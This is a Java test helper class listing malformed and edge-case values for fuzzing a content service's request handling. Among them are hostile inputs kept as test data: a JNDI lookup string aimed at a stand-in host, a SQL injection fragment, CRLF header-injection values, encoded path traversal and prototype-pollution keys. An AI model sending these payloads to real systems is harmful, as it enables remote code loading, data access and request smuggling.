package dev.contentservice.service;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.util.RawValue;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/** Invalid values for requests of any contract. */
final class WrongValues {
  private static final String LONG = "x".repeat(20_000);

  /** One value of every JSON type and its edge cases, as JSON. */
  static final List<JsonNode> JSON_VALUES =
      Stream.of(
              "null",
              "true",
              "false",
              "0",
              "-0",
              "1",
              "-1",
              "1.5",
              "1e400",
              "-1e-400",
              "9223372036854775808",
              "1".repeat(150),
              "01",
              "NaN",
              "\"\"",
              "\" \"",
              "\"true\"",
              "\"null\"",
              "\"1\"",
              "\"\\u0000\"",
              "\"\\ud800\"",
              "\"\u202e\"",
              "\"\\uD83D\\uDE00\"",
              "\"a\\r\\nX-B: c\"",
              "\"${jndi:ldap://a.test/a}\"",
              "\"' or 1=1 --\"",
              "\"" + LONG + "\"",
              "[]",
              "[null]",
              "[1]",
              "[\"a\", \"a\"]",
              "[[[[[]]]]]",
              "[".repeat(40) + "]".repeat(40),
              "{}",
              "{\"a\": 1}",
              "{\"a\": null, \"a\": 1}",
              "{\"\": \"\"}",
              "{\"type\": \"field\"}",
              "{\"type\": \"x\", \"id\": \"a\"}",
              "{\"type\": \"field\", \"id\": \"a\", \"more\": 1}")
          .map(text -> (JsonNode) JsonNodeFactory.instance.rawValueNode(new RawValue(text)))
          .toList();

  /** Unknown members. */
  static final List<String> NAMES =
      List.of("", "id", "NAME", "name ", "$ref", "__proto__", "\u0000", "constructor", LONG);

  /** Values of parameters in a path, a query or a header. */
  static final List<String> PARAMETERS =
      List.of(
          "",
          "true",
          "false",
          "TRUE",
          "yes",
          "1",
          "null",
          "%00",
          "%ff",
          "%",
          "%2e%2e",
          "%2F",
          "a%2Fb",
          "..%2f..%2f",
          "a;b=c",
          "%0d%0aX:y",
          "'",
          "x".repeat(255),
          "x".repeat(256),
          "x".repeat(7000),
          "x".repeat(9000));

  private WrongValues() {}

  /** This JSON text truncated anywhere, with a wrong character anywhere, and no JSON at all. */
  static List<String> texts(String right) {
    List<String> texts =
        new ArrayList<>(
            List.of("", " ", "null", "[]", "1", "\"\"", "{", "\ufeff" + right, right + "}"));
    for (int i = 1; i < right.length(); i += 3) {
      texts.add(right.substring(0, i));
      for (char wrong : new char[] {'\u0000', '"', '}', ',', '\\'}) {
        texts.add(right.substring(0, i) + wrong + right.substring(i));
      }
    }
    return texts;
  }
}
